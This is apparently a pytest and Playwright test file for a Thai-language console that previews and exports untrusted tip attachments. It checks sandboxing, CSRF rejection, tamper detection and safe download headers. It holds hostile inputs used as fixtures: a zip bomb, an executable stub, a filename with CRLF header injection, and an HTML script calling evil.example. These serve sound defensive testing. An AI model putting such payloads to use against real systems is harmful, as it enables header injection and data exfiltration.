"""A file's page: its pages turned, what it may do told, and taking it out for a reason."""

from pathlib import Path

import pytest
from playwright.async_api import BrowserContext

from console.previews.drawing import Walls
from sealing import Media, Opens
from tests.console import hostile_files as hostile
from tests.console.fake_world import Person, Tip, World
from tests.console.test_pages import PNG, Browser, browser, text_of
from tests.console.test_pages_in_chromium import PHONE, Opened, chromium, opened, unlock
from tests.console.test_previews import pdf, says

__all__ = ["browser", "chromium", "opened"]

PROGRAM = b"MZ\x90" + bytes(90)


def with_file(world: World, somchai: Person, data: bytes, name: str = "a.pdf") -> Tip:
    tip = world.file_tip(somchai)
    world.add_file(tip, data, name=name, media=Media.DOCUMENT, mime="application/pdf")
    return tip


async def test_pages_are_turned_without_asking_the_desk_again(
    browser: Browser, world: World, somchai: Person
) -> None:
    tip = with_file(world, somchai, pdf(says("one"), says("two"), says("three")))
    await browser.unlock()
    path = f"/tips/{tip.tip_id}/files/2"
    first = await browser.get(f"{path}/look")
    assert "หน้า 1 จาก 3" in text_of(first)
    assert "?page=2" in first.text
    assert "หน้าก่อน" not in first.text
    tip.blobs.clear()
    last = await browser.get(f"{path}/look?page=3")
    assert "three" in text_of(last)
    assert "หน้าถัดไป" not in last.text
    pictures = [await browser.get(f"{path}?page={n}") for n in (1, 3)]
    assert [each.headers["content-type"] for each in pictures] == ["image/webp"] * 2
    assert pictures[0].content != pictures[1].content
    for odd in ("4", "0", "x", "-1", "9" * 400):
        answer = await browser.get(f"{path}/look?page={odd}")
        assert answer.status_code == 200
        assert ("ไม่มีหน้านี้" in answer.text) == (odd == "4")


async def test_what_fails_is_named_and_the_rest_is_shown(
    browser: Browser, world: World, somchai: Person
) -> None:
    scan = with_file(world, somchai, pdf(b"0 0 m 10 10 l S"))
    await browser.unlock()
    page = text_of(await browser.get(f"/tips/{scan.tip_id}/files/2/look"))
    assert "ไม่มีตัวหนังสือให้อ่าน" in page
    assert (await browser.get(f"/tips/{scan.tip_id}/files/2")).status_code == 200
    bomb = with_file(world, somchai, hostile.zip_bomb(0.2))
    page = text_of(await browser.get(f"/tips/{bomb.tip_id}/files/2/look"))
    assert "ใช้หน่วยความจำมากเกินกว่าจะเปิดดูที่นี่" in page


async def test_what_a_file_may_do_is_told_before_it_is_taken_out(
    browser: Browser, world: World, somchai: Person
) -> None:
    tip = with_file(world, somchai, PROGRAM, name="photo.jpg")
    await browser.unlock()
    path = f"/tips/{tip.tip_id}/files/2"
    page = text_of(await browser.get(f"{path}/look"))
    assert "เป็นโปรแกรม เปิดแล้วทำอะไรกับเครื่องก็ได้" in page
    assert "photo.jpg.unsafe" in page
    for fields, says_why in (
        ({"reason": "", "aware": "yes"}, "บอกเหตุผลก่อน"),
        ({"reason": "ส่งตรวจ <b>"}, "ไฟล์นี้อาจทำอันตราย"),
        ({"reason": "ส่งตรวจ <b>", "aware": "on"}, "ไฟล์นี้อาจทำอันตราย"),
    ):
        refused = await browser.post(f"{path}/save", **fields)
        assert says_why in text_of(refused)
        assert "attachment" not in refused.headers.get("content-disposition", "")
    assert "ส่งตรวจ &lt;b&gt;" in refused.text, "what was typed stays"
    assert tip.answer["openings"] == [], "nothing was taken out, nothing is recorded"


async def test_a_file_is_taken_out_for_a_reason_as_something_that_no_browser_opens(
    browser: Browser, world: World, somchai: Person
) -> None:
    tip = with_file(world, somchai, PROGRAM, name='ใบ"สั่ง\r\nX: y.exe')
    await browser.unlock()
    path = f"/tips/{tip.tip_id}/files/2"
    answer = await browser.post(f"{path}/save", reason="ส่งตรวจ", aware="yes")
    assert (answer.status_code, answer.content) == (200, PROGRAM)
    told = answer.headers["content-disposition"]
    assert told.startswith('attachment; filename="0002-')
    assert ".exe.unsafe" in told.partition(";")[2].partition(";")[0]
    assert told.isascii()
    assert "\n" not in told
    assert answer.headers["content-type"] == "application/octet-stream"
    assert answer.headers["content-security-policy"].startswith("default-src 'none'; sandbox")
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["cache-control"] == "no-store"
    (opening,) = tip.answer["openings"]
    assert opening["opens"] == Opens.EXPORT
    noted = await browser.get(f"/tips/{tip.tip_id}")
    assert "นำออกเฉพาะไฟล์ในส่วนที่ 2: ส่งตรวจ" in noted.text


async def test_a_harmless_file_needs_a_reason_only_and_a_stranger_gets_nothing(
    browser: Browser, world: World, somchai: Person
) -> None:
    tip = with_file(world, somchai, PNG, name="ถนน.png")
    path = f"/tips/{tip.tip_id}/files/2/save"
    await browser.unlock()
    world.second_officer = ("export",)
    waits = await browser.post(path, reason="ศาลขอ")
    assert (waits.status_code, "ศาลขอ" in waits.text) == (409, True)
    assert 'class="notice warm" role="alert"' in waits.text, "nothing went wrong"
    world.second_officer = ()
    tip.answer["openings"].clear()
    assert (await browser.post(path, reason="x")).content == PNG
    forged = await browser.http.post(
        path,
        data={"form_token": "x", "reason": "x", "aware": "yes"},
        headers={"Origin": "null", "Sec-Fetch-Site": "same-origin"},
    )
    assert forged.status_code == 403
    await browser.post("/lock")
    assert PNG not in (await browser.post(path, reason="x")).content


async def test_an_altered_file_is_not_taken_out(
    browser: Browser, world: World, somchai: Person
) -> None:
    tip = with_file(world, somchai, PNG)
    await browser.unlock()
    world.spoil("blob", lambda answer: answer.update(blob=answer["blob"][:-1] + b"\0"))
    answer = await browser.post(f"/tips/{tip.tip_id}/files/2/save", reason="x")
    assert answer.status_code == 502
    assert PNG not in answer.content


@pytest.mark.parametrize(
    ("walls", "says_what"),
    [
        (
            Walls(("limits", "namespaces", "landlock", "seccomp"), (), True),
            "เข้าถึงทั้งดิสก์และเครือข่ายของเครื่องนี้ไม่ได้",
        ),
        (Walls(("limits",), ("namespaces", "landlock", "seccomp"), False), "ของคนแปลกหน้าไว้ไม่พอ"),
        (Walls((), ("limits", "namespaces", "landlock", "seccomp"), False), "ไม่ได้เลย"),
    ],
)
async def test_the_settings_say_which_walls_stand_on_this_machine(
    browser: Browser, monkeypatch: pytest.MonkeyPatch, walls: Walls, says_what: str
) -> None:
    async def told() -> Walls:
        return walls

    await browser.unlock()
    monkeypatch.setattr(browser.window.room.previews, "walls", told)
    page = text_of(await browser.get("/settings"))
    assert says_what in page
    assert page.count("กั้นอยู่") == len(walls.standing)


async def test_a_browser_downloads_what_was_taken_out_and_opens_nothing(
    world: World, somchai: Person, opened: Opened, chromium: BrowserContext, tmp_path: Path
) -> None:
    page_of_scripts = b"<html><script>window.hacked = 1; fetch('//evil.example')</script>"
    tip = with_file(world, somchai, page_of_scripts, name="ประกาศ.html")
    page = chromium.pages[0]
    strangers: list[str] = []
    chromium.on(
        "request",
        lambda asked: None if asked.url.startswith(opened.origin) else strangers.append(asked.url),
    )
    await unlock(page, opened)
    await page.set_viewport_size(PHONE)  # type: ignore[arg-type]  # a plain dict of ints
    await page.goto(f"{opened.origin}/tips/{tip.tip_id}/files/2/look")
    await page.fill("#save-reason", "ส่งตรวจ")
    await page.check("[name=aware]")
    async with page.expect_download() as downloading:
        await page.click("text=บันทึกเหตุผล แล้วนำไฟล์ออก")
    download = await downloading.value
    assert download.suggested_filename == "0002-ประกาศ.html.unsafe"
    await download.save_as(tmp_path / "kept")
    assert (tmp_path / "kept").read_bytes() == page_of_scripts
    assert await page.evaluate("window.hacked ?? null") is None
    assert strangers == []
    assert await page.evaluate("document.documentElement.scrollWidth") <= PHONE["width"]
